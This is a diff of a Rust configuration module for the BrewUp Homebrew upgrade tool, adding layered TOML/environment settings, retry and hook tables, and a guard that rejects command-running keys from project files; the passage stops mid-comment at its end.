@@ -2,28 +2,592 @@
 //!
 //! This module handles application configuration, constants, and
 //! environment-specific settings.
+//!
+//! Configuration is layered. Each layer overrides the keys it sets, in
+//! increasing order of precedence:
+//!
+//! 1. Built-in defaults
+//! 2. User file: `$XDG_CONFIG_HOME/brewup/config.toml` (default `~/.config/brewup/config.toml`)
+//! 3. Project file: `.brewup.toml` in the current directory
+//! 4. Explicit file: `--config <FILE>` or `BREWUP_CONFIG`
+//! 5. `BREWUP_*` environment variables
+//! 6. Command-line flags
+
+use serde::Deserialize;
+use std::collections::BTreeMap;
+use std::fmt;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use crate::cli::{CliArgs, ColorChoice, Subcommand};
+use crate::notify::{NotifyWhen, Webhook};
+use crate::packages::GreedyMode;
+use crate::pipeline::FailurePolicy;
+use crate::schedule::{Backend, Frequency, TimeOfDay, Weekday};
+
+/// Name of the project-level configuration file.
+pub const PROJECT_CONFIG_FILE: &str = ".brewup.toml";
 
 /// Application configuration and constants.
 #[derive(Debug, Clone)]
 pub struct Config {
     /// Application name
-    pub app_name: &'static str,
-    /// Default cleanup command arguments
-    pub cleanup_args: Vec<&'static str>,
+    pub app_name: String,
+    /// Explicit cleanup command arguments, replacing the `[cleanup]` policy
+    pub cleanup_args: Option<Vec<String>>,
     /// Maximum number of packages to display in summary
     pub max_packages_display: usize,
+    /// Settings for the upgrade step (`[upgrade]` table)
+    pub upgrade: UpgradeConfig,
+    /// Settings for the cleanup step (`[cleanup]` table)
+    pub cleanup: CleanupConfig,
+    /// Step selection and failure policies (`[pipeline]` table)
+    pub pipeline: PipelineConfig,
+    /// Run history settings (`[history]` table)
+    pub history: HistoryConfig,
+    /// Pre-upgrade snapshot settings (`[snapshot]` table)
+    pub snapshot: SnapshotConfig,
+    /// Scheduled run settings (`[schedule]` table)
+    pub schedule: ScheduleConfig,
+    /// Single-instance lock settings (`[lock]` table)
+    pub lock: LockConfig,
+    /// Notification settings (`[notify]` table)
+    pub notify: NotifyConfig,
+    /// User hooks around the steps (`[hooks]` table)
+    pub hooks: HooksConfig,
+    /// Retries of transient brew failures (`[retry]` table)
+    pub retry: RetryConfig,
+    /// Colors and symbols of the output (`[display]` table)
+    pub display: DisplayConfig,
+}
+
+/// Settings for the upgrade step.
+#[derive(Debug, Clone)]
+pub struct UpgradeConfig {
+    /// Package names or glob patterns that are never upgraded
+    pub exclude: Vec<String>,
+    /// Upgrade outdated packages in separate batches and continue past failures
+    pub isolate: bool,
+    /// Number of packages per `brew upgrade` call when isolating
+    pub batch_size: usize,
+    /// Which self-updating casks are upgraded
+    pub greedy: GreedyMode,
+    /// Per-cask overrides of `greedy`
+    pub greedy_casks: BTreeMap<String, GreedyMode>,
+    /// Restart running services whose formula was upgraded
+    pub restart_services: bool,
+}
+
+impl UpgradeConfig {
+    /// Returns the greedy mode for a cask, honoring per-cask overrides.
+    ///
+    /// # Arguments
+    /// * `cask` - The cask name
+    pub fn greedy_mode(&self, cask: &str) -> GreedyMode {
+        self.greedy_casks.get(cask).copied().unwrap_or(self.greedy)
+    }
+
+    /// Returns `true` if any cask is upgraded with the given greedy mode.
+    ///
+    /// # Arguments
+    /// * `mode` - The greedy mode to look for
+    pub fn uses_greedy(&self, mode: GreedyMode) -> bool {
+        self.greedy == mode || self.greedy_casks.values().any(|m| *m == mode)
+    }
+}
+
+/// Settings for the cleanup step.
+#[derive(Debug, Clone)]
+pub struct CleanupConfig {
+    /// Remove cached downloads older than this many days; 0 removes all of them
+    pub prune_days: u32,
+    /// Also remove the downloads of installed versions (`brew cleanup -s`)
+    pub scrub: bool,
+    /// Formulae whose old versions are never removed
+    pub exempt: Vec<String>,
+    /// Uninstall dependencies that nothing needs anymore (`brew autoremove`)
+    pub autoremove: bool,
+    /// Installed versions kept of each formula, the newest ones; 1 keeps
+    /// only the current version, like brew
+    pub keep_versions: usize,
+}
+
+impl Default for CleanupConfig {
+    fn default() -> Self {
+        Self {
+            prune_days: 0,
+            scrub: false,
+            exempt: Vec::new(),
+            autoremove: false,
+            keep_versions: 1,
+        }
+    }
+}
+
+impl CleanupConfig {
+    /// Returns the `brew cleanup` arguments for this policy.
+    ///
+    /// # Returns
+    /// The arguments, e.g. `["cleanup", "--prune=30", "-s"]`.
+    pub fn args(&self) -> Vec<String> {
+        let prune = match self.prune_days {
+            0 => "all".to_string(),
+            days => days.to_string(),
+        };
+        let mut args = vec!["cleanup".to_string(), format!("--prune={}", prune)];
+        if self.scrub {
+            args.push("-s".to_string());
+        }
+        args
+    }
+}
+
+/// Step selection and failure policies.
+#[derive(Debug, Clone, Default)]
+pub struct PipelineConfig {
+    /// Steps to run, in order; `None` runs every registered step
+    pub steps: Option<Vec<String>>,
+    /// Failure policy overrides by step name
+    pub on_failure: BTreeMap<String, FailurePolicy>,
+}
+
+/// Run history settings.
+#[derive(Debug, Clone)]
+pub struct HistoryConfig {
+    /// Whether runs are recorded
+    pub enabled: bool,
+    /// History file; `None` uses the default location in the state directory
+    pub path: Option<PathBuf>,
+    /// Number of runs kept, oldest dropped first
+    pub max_entries: usize,
+}
+
+impl Default for HistoryConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            path: None,
+            max_entries: 1000,
+        }
+    }
+}
+
+impl HistoryConfig {
+    /// Returns the history file path.
+    ///
+    /// # Returns
+    /// The configured path, or `history.jsonl` in the state directory;
+    /// `None` if no home directory can be determined.
+    pub fn path(&self) -> Option<PathBuf> {
+        self.path
+            .clone()
+            .or_else(|| state_dir().map(|dir| dir.join("history.jsonl")))
+    }
+}
+
+/// Pre-upgrade snapshot settings.
+#[derive(Debug, Clone)]
+pub struct SnapshotConfig {
+    /// Whether a snapshot is taken before packages are upgraded
+    pub enabled: bool,
+    /// Snapshot directory; `None` uses the default location in the state directory
+    pub path: Option<PathBuf>,
+    /// Number of snapshots kept, oldest removed first
+    pub keep: usize,
+}
+
+impl Default for SnapshotConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            path: None,
+            keep: 10,
+        }
+    }
+}
+
+impl SnapshotConfig {
+    /// Returns the directory snapshots are stored in.
+    ///
+    /// # Returns
+    /// The configured path, or `snapshots` in the state directory; `None`
+    /// if no home directory can be determined.
+    pub fn dir(&self) -> Option<PathBuf> {
+        self.path
+            .clone()
+            .or_else(|| state_dir().map(|dir| dir.join("snapshots")))
+    }
+}
+
+/// Single-instance lock settings.
+#[derive(Debug, Clone)]
+pub struct LockConfig {
+    /// Whether runs that change packages hold the lock
+    pub enabled: bool,
+    /// Lock file; `None` uses the default location in the state directory
+    pub path: Option<PathBuf>,
+    /// Wait for a run holding the lock instead of exiting with code 8
+    pub wait: bool,
+}
+
+impl Default for LockConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            path: None,
+            wait: false,
+        }
+    }
+}
+
+impl LockConfig {
+    /// Returns the lock file path.
+    ///
+    /// # Returns
+    /// The configured path, or `brewup.lock` in the state directory; `None`
+    /// if no home directory can be determined.
+    pub fn path(&self) -> Option<PathBuf> {
+        self.path
+            .clone()
+            .or_else(|| state_dir().map(|dir| dir.join("brewup.lock")))
+    }
+}
+
+/// Notification settings.
+#[derive(Debug, Clone, Default)]
+pub struct NotifyConfig {
+    /// Which runs trigger notifications
+    pub on: NotifyWhen,
+    /// Whether to show a desktop notification
+    pub desktop: bool,
+    /// Webhooks to post to (`[[notify.webhook]]`)
+    pub webhooks: Vec<Webhook>,
+}
+
+/// Colors and symbols of the output.
+#[derive(Debug, Clone, Default)]
+pub struct DisplayConfig {
+    /// When output is colored
+    pub color: ColorChoice,
+    /// Whether to use emoji; `None` uses them on terminals only
+    pub emoji: Option<bool>,
+}
+
+/// User hooks around the steps of a run.
+#[derive(Debug, Clone)]
+pub struct HooksConfig {
+    /// Shell command by hook name, e.g. `pre_update`
+    pub commands: BTreeMap<String, String>,
+    /// What a failing hook means for the run
+    pub failure_policy: FailurePolicy,
+}
+
+impl Default for HooksConfig {
+    fn default() -> Self {
+        Self {
+            commands: BTreeMap::new(),
+            failure_policy: FailurePolicy::Abort,
+        }
+    }
+}
+
+/// How often and how patiently a brew command is retried.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct RetryPolicy {
+    /// Tries per brew command, including the first one
+    pub attempts: u32,
+    /// Seconds before the first retry, doubled after each retry
+    pub delay: u64,
+    /// Upper bound of the delay in seconds
+    pub max_delay: u64,
+}
+
+impl Default for RetryPolicy {
+    fn default() -> Self {
+        Self {
+            attempts: 3,
+            delay: 2,
+            max_delay: 60,
+        }
+    }
+}
+
+/// Retries of brew commands that failed for a transient reason.
+#[derive(Debug, Clone, Default)]
+pub struct RetryConfig {
+    /// Policy of steps without an override
+    pub policy: RetryPolicy,
+    /// Per-step overrides by step name; unset keys fall back to `policy`
+    pub steps: BTreeMap<String, RetryOverrides>,
+}
+
+impl RetryConfig {
+    /// Returns the retry policy of a step.
+    ///
+    /// # Arguments
+    /// * `step` - The step name
+    pub fn policy(&self, step: &str) -> RetryPolicy {
+        let mut policy = self.policy;
+        if let Some(overrides) = self.steps.get(step) {
+            overrides.apply(&mut policy);
+        }
+        policy
+    }
+}
+
+/// Retry settings of one step, e.g. the `[retry.update]` table.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct RetryOverrides {
+    /// Tries per brew command, including the first one
+    pub attempts: Option<u32>,
+    /// Seconds before the first retry
+    pub delay: Option<u64>,
+    /// Upper bound of the delay in seconds
+    pub max_delay: Option<u64>,
+}
+
+impl RetryOverrides {
+    /// Overrides every setting of `policy` set here.
+    ///
+    /// # Arguments
+    /// * `policy` - The policy to change
+    pub fn apply(&self, policy: &mut RetryPolicy) {
+        if let Some(attempts) = self.attempts {
+            // The command always runs at least once
+            policy.attempts = attempts.max(1);
+        }
+        if let Some(delay) = self.delay {
+            policy.delay = delay;
+        }
+        if let Some(max_delay) = self.max_delay {
+            policy.max_delay = max_delay;
+        }
+    }
+
+    /// Returns these overrides with the settings of `other` on top.
+    fn merge(self, other: RetryOverrides) -> Self {
+        Self {
+            attempts: other.attempts.or(self.attempts),
+            delay: other.delay.or(self.delay),
+            max_delay: other.max_delay.or(self.max_delay),
+        }
+    }
+}
+
+/// Scheduled run settings used by `brewup schedule`.
+#[derive(Debug, Clone, Default)]
+pub struct ScheduleConfig {
+    /// Scheduler to use; `None` picks the native one for this machine
+    pub backend: Option<Backend>,
+    /// How often BrewUp runs
+    pub frequency: Frequency,
+    /// Start time (only the minute is used for hourly runs)
+    pub at: TimeOfDay,
+    /// Day of weekly runs
+    pub weekday: Weekday,
+    /// Minutes after `at` within which runs start, to spread load
+    pub window: u32,
+    /// Arguments passed to scheduled runs
+    pub args: Vec<String>,
+}
+
+impl Default for UpgradeConfig {
+    fn default() -> Self {
+        Self {
+            exclude: Vec::new(),
+            isolate: false,
+            batch_size: 1,
+            greedy: GreedyMode::Off,
+            greedy_casks: BTreeMap::new(),
+            restart_services: true,
+        }
+    }
 }
 
 impl Default for Config {
     fn default() -> Self {
         Self {
-            app_name: "BrewUp",
-            cleanup_args: vec!["cleanup", "--prune=all"],
+            app_name: "BrewUp".to_string(),
+            cleanup_args: None,
             max_packages_display: 10,
+            upgrade: UpgradeConfig::default(),
+            cleanup: CleanupConfig::default(),
+            pipeline: PipelineConfig::default(),
+            history: HistoryConfig::default(),
+            snapshot: SnapshotConfig::default(),
+            schedule: ScheduleConfig::default(),
+            lock: LockConfig::default(),
+            notify: NotifyConfig::default(),
+            hooks: HooksConfig::default(),
+            retry: RetryConfig::default(),
+            display: DisplayConfig::default(),
         }
     }
 }
 
+/// One layer of configuration as read from a TOML file or the environment.
+///
+/// Every key is optional; only the keys present override lower layers.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ConfigLayer {
+    app_name: Option<String>,
+    cleanup_args: Option<Vec<String>>,
+    max_packages_display: Option<usize>,
+    upgrade: Option<UpgradeLayer>,
+    cleanup: Option<CleanupLayer>,
+    pipeline: Option<PipelineLayer>,
+    history: Option<HistoryLayer>,
+    snapshot: Option<SnapshotLayer>,
+    schedule: Option<ScheduleLayer>,
+    lock: Option<LockLayer>,
+    notify: Option<NotifyLayer>,
+    hooks: Option<HooksLayer>,
+    retry: Option<RetryLayer>,
+    display: Option<DisplayLayer>,
+}
+
+/// Parses one configuration layer, rejecting unknown keys.
+fn parse_layer(origin: &str, contents: &str) -> Result<ConfigLayer, ConfigError> {
+    toml::from_str(contents).map_err(|e| ConfigError {
+        origin: origin.to_string(),
+        message: e.to_string().trim_end().to_string(),
+    })
+}
+
+/// The `[upgrade]` table of a configuration layer.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct UpgradeLayer {
+    exclude: Option<Vec<String>>,
+    isolate: Option<bool>,
+    batch_size: Option<usize>,
+    greedy: Option<GreedyMode>,
+    greedy_casks: Option<BTreeMap<String, GreedyMode>>,
+    restart_services: Option<bool>,
+}
+
+/// The `[cleanup]` table of a configuration layer.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct CleanupLayer {
+    prune_days: Option<u32>,
+    scrub: Option<bool>,
+    exempt: Option<Vec<String>>,
+    autoremove: Option<bool>,
+    keep_versions: Option<usize>,
+}
+
+/// The `[pipeline]` table of a configuration layer.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PipelineLayer {
+    steps: Option<Vec<String>>,
+    on_failure: Option<BTreeMap<String, FailurePolicy>>,
+}
+
+/// The `[history]` table of a configuration layer.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct HistoryLayer {
+    enabled: Option<bool>,
+    path: Option<PathBuf>,
+    max_entries: Option<usize>,
+}
+
+/// The `[snapshot]` table of a configuration layer.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct SnapshotLayer {
+    enabled: Option<bool>,
+    path: Option<PathBuf>,
+    keep: Option<usize>,
+}
+
+/// The `[schedule]` table of a configuration layer.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ScheduleLayer {
+    backend: Option<Backend>,
+    frequency: Option<Frequency>,
+    at: Option<TimeOfDay>,
+    weekday: Option<Weekday>,
+    window: Option<u32>,
+    args: Option<Vec<String>>,
+}
+
+/// The `[lock]` table of a configuration layer.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct LockLayer {
+    enabled: Option<bool>,
+    path: Option<PathBuf>,
+    wait: Option<bool>,
+}
+
+/// The `[notify]` table of a configuration layer.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct NotifyLayer {
+    on: Option<NotifyWhen>,
+    desktop: Option<bool>,
+    webhook: Option<Vec<Webhook>>,
+}
+
+/// The `[display]` table of a configuration layer.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct DisplayLayer {
+    color: Option<ColorChoice>,
+    emoji: Option<bool>,
+}
+
+/// The `[hooks]` table of a configuration layer.
+///
+/// Every key other than `failure_policy` names a hook; unknown hook names
+/// are reported when the pipeline is built, once the steps are known.
+#[derive(Debug, Default, Deserialize)]
+struct HooksLayer {
+    failure_policy: Option<FailurePolicy>,
+    #[serde(flatten)]
+    commands: BTreeMap<String, String>,
+}
+
+/// The `[retry]` table of a configuration layer.
+///
+/// Every key other than the policy settings names a step; unknown step names
+/// are reported when the pipeline is built, once the steps are known.
+#[derive(Debug, Default, Deserialize)]
+struct RetryLayer {
+    attempts: Option<u32>,
+    delay: Option<u64>,
+    max_delay: Option<u64>,
+    #[serde(flatten)]
+    steps: BTreeMap<String, RetryOverrides>,
+}
+
+/// Error raised when a configuration layer cannot be read or parsed.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ConfigError {
+    /// Where the invalid value came from (file path or variable name)
+    pub origin: String,
+    /// Description of the problem, including line information for files
+    pub message: String,
+}
+
+impl fmt::Display for ConfigError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(
+            f,
+            "invalid configuration in {}: {}",
+            self.origin, self.message
+        )
+    }
+}
+
+impl std::error::Error for ConfigError {}
+
 impl Config {
     /// Creates a new configuration with default values.
     ///
@@ -33,12 +597,371 @@ impl Config {
         Self::default()
     }
 
+    /// Loads the configuration by merging every layer in precedence order.
+    ///
+    /// # Arguments
+    /// * `args` - The parsed command-line arguments (highest precedence)
+    ///
+    /// # Returns
+    /// The merged configuration, or the first `ConfigError` encountered.
+    pub fn load(args: &CliArgs) -> Result<Self, ConfigError> {
+        let mut config = Self::default();
+
+        if let Some(path) = user_config_path().filter(|path| path.is_file()) {
+            config.merge_file(&path)?;
+        }
+        let project = PathBuf::from(PROJECT_CONFIG_FILE);
+        if project.is_file() {
+            config.merge_project_file(&project)?;
+        }
+
+        let explicit = args
+            .config
+            .clone()
+            .or_else(|| std::env::var_os("BREWUP_CONFIG").map(PathBuf::from));
+        if let Some(path) = explicit {
+            config.merge_file(&path)?;
+        }
+
+        config.merge_env(std::env::vars())?;
+        config.merge_cli(args);
+        Ok(config)
+    }
+
+    /// Merges a TOML configuration file into this configuration.
+    ///
+    /// # Arguments
+    /// * `path` - Path of the file to read
+    pub fn merge_file(&mut self, path: &Path) -> Result<(), ConfigError> {
+        let contents = fs::read_to_string(path).map_err(|e| ConfigError {
+            origin: path.display().to_string(),
+            message: e.to_string(),
+        })?;
+        self.merge_toml(&path.display().to_string(), &contents)
+    }
+
+    /// Merges a project configuration file into this configuration.
+    ///
+    /// Project files are picked up from the current directory, which may be
+    /// any cloned repository, so they must not run commands; see
+    /// [`Config::merge_project_toml`].
+    ///
+    /// # Arguments
+    /// * `path` - Path of the file to read
+    pub fn merge_project_file(&mut self, path: &Path) -> Result<(), ConfigError> {
+        let contents = fs::read_to_string(path).map_err(|e| ConfigError {
+            origin: path.display().to_string(),
+            message: e.to_string(),
+        })?;
+        self.merge_project_toml(&path.display().to_string(), &contents)
+    }
+
+    /// Merges TOML source text into this configuration.
+    ///
+    /// Unknown keys are rejected with an error pointing at the offending line.
+    ///
+    /// # Arguments
+    /// * `origin` - Name of the source, used in error messages
+    /// * `contents` - The TOML document
+    pub fn merge_toml(&mut self, origin: &str, contents: &str) -> Result<(), ConfigError> {
+        let layer = parse_layer(origin, contents)?;
+        self.apply(layer);
+        Ok(())
+    }
+
+    /// Merges project TOML source text into this configuration.
+    ///
+    /// Keys that choose the commands brewup runs (`[hooks]`, `cleanup_args`
+    /// and `[cleanup] autoremove`) are only accepted from the user
+    /// configuration or an explicit `--config` file, and rejected here.
+    ///
+    /// # Arguments
+    /// * `origin` - Name of the source, used in error messages
+    /// * `contents` - The TOML document
+    pub fn merge_project_toml(&mut self, origin: &str, contents: &str) -> Result<(), ConfigError> {
+        let layer = parse_layer(origin, contents)?;
+        let mut commands = Vec::new();
+        if layer.hooks.is_some() {
+            commands.push("[hooks]");
+        }
+        if layer.cleanup_args.is_some() {
+            commands.push("cleanup_args");
+        }
+        if layer
+            .cleanup
+            .as_ref()
+            .is_some_and(|c| c.autoremove.is_some())
+        {
+            commands.push("[cleanup] autoremove");
+        }
+        if !commands.is_empty() {
+            return Err(ConfigError {
+                origin: origin.to_string(),
+                message: format!(
+                    "{}: commands are only accepted from the user configuration or a file \
+                     passed with --config, not from a project configuration",
+                    commands.join(", ")
+                ),
+            });
+        }
+        self.apply(layer);
+        Ok(())
+    }
+
+    /// Merges `BREWUP_*` environment variables into this configuration.
+    ///
+    /// Recognized variables are `BREWUP_APP_NAME`, `BREWUP_CLEANUP_ARGS`
+    /// (whitespace separated), `BREWUP_MAX_PACKAGES_DISPLAY` and
+    /// `BREWUP_EXCLUDE` (comma or whitespace separated).
+    ///
+    /// # Arguments
+    /// * `vars` - Environment variables as name/value pairs
+    pub fn merge_env<I>(&mut self, vars: I) -> Result<(), ConfigError>
+    where
+        I: IntoIterator<Item = (String, String)>,
+    {
+        let mut layer = ConfigLayer::default();
+        for (name, value) in vars {
+            match name.as_str() {
+                "BREWUP_APP_NAME" => layer.app_name = Some(value),
+                "BREWUP_CLEANUP_ARGS" => {
+                    layer.cleanup_args = Some(value.split_whitespace().map(String::from).collect())
+                }
+                "BREWUP_MAX_PACKAGES_DISPLAY" => {
+                    layer.max_packages_display =
+                        Some(value.trim().parse().map_err(|e| ConfigError {
+                            origin: name.clone(),
+                            message: format!("`{}` is not a valid number: {}", value, e),
+                        })?)
+                }
+                "BREWUP_EXCLUDE" => {
+                    layer.upgrade.get_or_insert_with(Default::default).exclude = Some(
+                        value
+                            .split(|c: char| c == ',' || c.is_whitespace())
+                            .filter(|p| !p.is_empty())
+                            .map(String::from)
+                            .collect(),
+                    )
+                }
+                _ => {}
+            }
+        }
+        self.apply(layer);
+        Ok(())
+    }
+
+    /// Merges command-line flags into this configuration.
+    ///
+    /// Patterns given with `--exclude` are added to the configured ones.
+    /// `--greedy` and `--greedy-auto-updates` replace the global greedy mode
+    /// but keep the per-cask overrides. Options of `brewup schedule` override
+    /// the `[schedule]` table.
+    ///
+    /// # Arguments
+    /// * `args` - The parsed command-line arguments
+    pub fn merge_cli(&mut self, args: &CliArgs) {
+        if let Some(max) = args.max_packages {
+            self.max_packages_display = max;
+        }
+        self.upgrade.exclude.extend(args.exclude.iter().cloned());
+        if args.isolate {
+            self.upgrade.isolate = true;
+        }
+        if let Some(greedy) = args.greedy {
+            self.upgrade.greedy = greedy;
+        }
+        if args.wait {
+            self.lock.wait = true;
+        }
+        if args.no_restart {
+            self.upgrade.restart_services = false;
+        }
+        if let Some(color) = args.color {
+            self.display.color = color;
+        }
+        if args.no_emoji {
+            self.display.emoji = Some(false);
+        }
+        if let Some(Subcommand::Schedule(schedule)) = &args.command {
+            self.apply_schedule(ScheduleLayer {
+                backend: schedule.backend,
+                frequency: schedule.frequency,
+                at: schedule.at,
+                weekday: schedule.weekday,
+                window: schedule.window,
+                args: schedule.args.clone(),
+            });
+        }
+    }
+
+    /// Overrides every key set in `layer`.
+    fn apply(&mut self, layer: ConfigLayer) {
+        if let Some(app_name) = layer.app_name {
+            self.app_name = app_name;
+        }
+        if let Some(cleanup_args) = layer.cleanup_args {
+            self.cleanup_args = Some(cleanup_args);
+        }
+        if let Some(max) = layer.max_packages_display {
+            self.max_packages_display = max;
+        }
+        if let Some(upgrade) = layer.upgrade {
+            if let Some(exclude) = upgrade.exclude {
+                self.upgrade.exclude = exclude;
+            }
+            if let Some(isolate) = upgrade.isolate {
+                self.upgrade.isolate = isolate;
+            }
+            if let Some(batch_size) = upgrade.batch_size {
+                // A batch always holds at least one package
+                self.upgrade.batch_size = batch_size.max(1);
+            }
+            if let Some(greedy) = upgrade.greedy {
+                self.upgrade.greedy = greedy;
+            }
+            if let Some(greedy_casks) = upgrade.greedy_casks {
+                self.upgrade.greedy_casks.extend(greedy_casks);
+            }
+            if let Some(restart_services) = upgrade.restart_services {
+                self.upgrade.restart_services = restart_services;
+            }
+        }
+        if let Some(cleanup) = layer.cleanup {
+            if let Some(prune_days) = cleanup.prune_days {
+                self.cleanup.prune_days = prune_days;
+            }
+            if let Some(scrub) = cleanup.scrub {
+                self.cleanup.scrub = scrub;
+            }
+            if let Some(exempt) = cleanup.exempt {
+                self.cleanup.exempt = exempt;
+            }
+            if let Some(autoremove) = cleanup.autoremove {
+                self.cleanup.autoremove = autoremove;
+            }
+            if let Some(keep_versions) = cleanup.keep_versions {
+                // The current version is always kept
+                self.cleanup.keep_versions = keep_versions.max(1);
+            }
+        }
+        if let Some(pipeline) = layer.pipeline {
+            if let Some(steps) = pipeline.steps {
+                self.pipeline.steps = Some(steps);
+            }
+            // Policies override per step, so layers can each set a few
+            if let Some(on_failure) = pipeline.on_failure {
+                self.pipeline.on_failure.extend(on_failure);
+            }
+        }
+        if let Some(history) = layer.history {
+            if let Some(enabled) = history.enabled {
+                self.history.enabled = enabled;
+            }
+            if let Some(path) = history.path {
+                self.history.path = Some(path);
+            }
+            if let Some(max_entries) = history.max_entries {
+                self.history.max_entries = max_entries.max(1);
+            }
+        }
+        if let Some(snapshot) = layer.snapshot {
+            if let Some(enabled) = snapshot.enabled {
+                self.snapshot.enabled = enabled;
+            }
+            if let Some(path) = snapshot.path {
+                self.snapshot.path = Some(path);
+            }
+            if let Some(keep) = snapshot.keep {
+                // The snapshot just taken is always kept
+                self.snapshot.keep = keep.max(1);
+            }
+        }
+        if let Some(schedule) = layer.schedule {
+            self.apply_schedule(schedule);
+        }
+        if let Some(lock) = layer.lock {
+            if let Some(enabled) = lock.enabled {
+                self.lock.enabled = enabled;
+            }
+            if let Some(path) = lock.path {
+                self.lock.path = Some(path);
+            }
+            if let Some(wait) = lock.wait {
+                self.lock.wait = wait;
+            }
+        }
+        if let Some(notify) = layer.notify {
+            if let Some(on) = notify.on {
+                self.notify.on = on;
+            }
+            if let Some(desktop) = notify.desktop {
+                self.notify.desktop = desktop;
+            }
+            if let Some(webhooks) = notify.webhook {
+                self.notify.webhooks = webhooks;
+            }
+        }
+        if let Some(hooks) = layer.hooks {
+            if let Some(policy) = hooks.failure_policy {
+                self.hooks.failure_policy = policy;
+            }
+            // Hooks override one by one, so layers can each add a few
+            self.hooks.commands.extend(hooks.commands);
+        }
+        if let Some(display) = layer.display {
+            if let Some(color) = display.color {
+                self.display.color = color;
+            }
+            if let Some(emoji) = display.emoji {
+                self.display.emoji = Some(emoji);
+            }
+        }
+        if let Some(retry) = layer.retry {
+            RetryOverrides {
+                attempts: retry.attempts,
+                delay: retry.delay,
+                max_delay: retry.max_delay,
+            }
+            .apply(&mut self.retry.policy);
+            // Step settings override key by key, so layers can each tune a few
+            for (step, overrides) in retry.steps {
+                let current = self.retry.steps.entry(step).or_default();
+                *current = current.merge(overrides);
+            }
+        }
+    }
+
+    /// Overrides every key set in a `[schedule]` table.
+    fn apply_schedule(&mut self, schedule: ScheduleLayer) {
+        if let Some(backend) = schedule.backend {
+            self.schedule.backend = Some(backend);
+        }
+        if let Some(frequency) = schedule.frequency {
+            self.schedule.frequency = frequency;
+        }
+        if let Some(at) = schedule.at {
+            self.schedule.at = at;
+        }
+        if let Some(weekday) = schedule.weekday {
+            self.schedule.weekday = weekday;
+        }
+        if let Some(window) = schedule.window {
+            self.schedule.window = window;
+        }
+        if let Some(args) = schedule.args {
+            self.schedule.args = args;
+        }
+    }
+
     /// Returns the cleanup command arguments.
     ///
     /// # Returns
-    /// A slice of string references representing the cleanup command arguments.
-    pub fn cleanup_args(&self) -> &[&str] {
-        &self.cleanup_args
+    /// The explicit `cleanup_args` if set, otherwise the arguments of the
+    /// `[cleanup]` policy.
+    pub fn cleanup_args(&self) -> Vec<String> {
+        self.cleanup_args
+            .clone()
+            .unwrap_or_else(|| self.cleanup.args())
     }
 
     /// Returns the maximum number of packages to display in the summary.
@@ -50,6 +973,38 @@ impl Config {
     }
 }
 
+/// Returns the path of the user configuration file.
+///
+/// Honors `XDG_CONFIG_HOME` when it is set to an absolute path and falls
+/// back to `~/.config` otherwise.
+///
+/// # Returns
+/// The path, or `None` if no home directory can be determined.
+pub fn user_config_path() -> Option<PathBuf> {
+    let base = std::env::var_os("XDG_CONFIG_HOME")
+        .map(PathBuf::from)
+        .filter(|p| p.is_absolute())
+        .or_else(|| std::env::var_os("HOME").map(|home| PathBuf::from(home).join(".config")))?;
+    Some(base.join("brewup").join("config.toml"))
+}
+
+/// Returns the directory where brewup keeps its state, such as the run history.
+///
+/// Honors `XDG_STATE_HOME` when it is set to an absolute path and falls
+/// back to `~/.local/state` otherwise.
+///
+/// # Returns
+/// The path, or `None` if no home directory can be determined.
+pub fn state_dir() -> Option<PathBuf> {
+    let base = std::env::var_os("XDG_STATE_HOME")
+        .map(PathBuf::from)
+        .filter(|p| p.is_absolute())
+        .or_else(|| {
+            std::env::var_os("HOME").map(|home| PathBuf::from(home).join(".local").join("state"))
+        })?;
+    Some(base.join("brewup"))
+}
+
 /// Application-wide constants.
 pub mod constants {
     /// Success emoji
@@ -74,4 +1029,403 @@ pub mod constants {
     pub const EMOJI_DRY_RUN: &str = "🔍";
     /// Skip emoji
     pub const EMOJI_SKIP: &str = "⏭️";
+    /// History emoji for past runs
+    pub const EMOJI_HISTORY: &str = "📜";
+    /// Snapshot emoji for pre-upgrade snapshots
+    pub const EMOJI_SNAPSHOT: &str = "📸";
+    /// Rollback emoji for restoring a snapshot
+    pub const EMOJI_ROLLBACK: &str = "⏪";
+    /// Schedule emoji for scheduled runs
+    pub const EMOJI_SCHEDULE: &str = "⏰";
+    /// Lock emoji for waiting on another run
+    pub const EMOJI_LOCK: &str = "🔒";
+    /// Hook emoji for user hooks
+    pub const EMOJI_HOOK: &str = "🔗";
+    /// Restart emoji for services of upgraded formulae
+    pub const EMOJI_RESTART: &str = "🔁";
+    /// Pin emoji for the "Action required" section
+    pub const EMOJI_ACTION: &str = "📌";
+    /// Stethoscope emoji for failure diagnoses
+    pub const EMOJI_DIAGNOSIS: &str = "🩺";
+    /// Retry emoji for re-run commands
+    pub const EMOJI_RETRY: &str = "🔄";
+    /// Gutter in front of brew's output lines
+    pub const SYMBOL_GUTTER: &str = "│";
+    /// Marker of something that succeeded
+    pub const SYMBOL_OK: &str = "✓";
+    /// Marker of something that failed
+    pub const SYMBOL_FAILED: &str = "✗";
+    /// Arrow between an old and a new version, or of a pending action
+    pub const SYMBOL_ARROW: &str = "→";
+    /// Marker of an upgraded package in the version changes
+    pub const SYMBOL_UPGRADED: &str = "↑";
+    /// Marker of text left out, e.g. of a redacted URL
+    pub const SYMBOL_ELLIPSIS: &str = "…";
+
+    /// ASCII replacement of every emoji and symbol above, used with
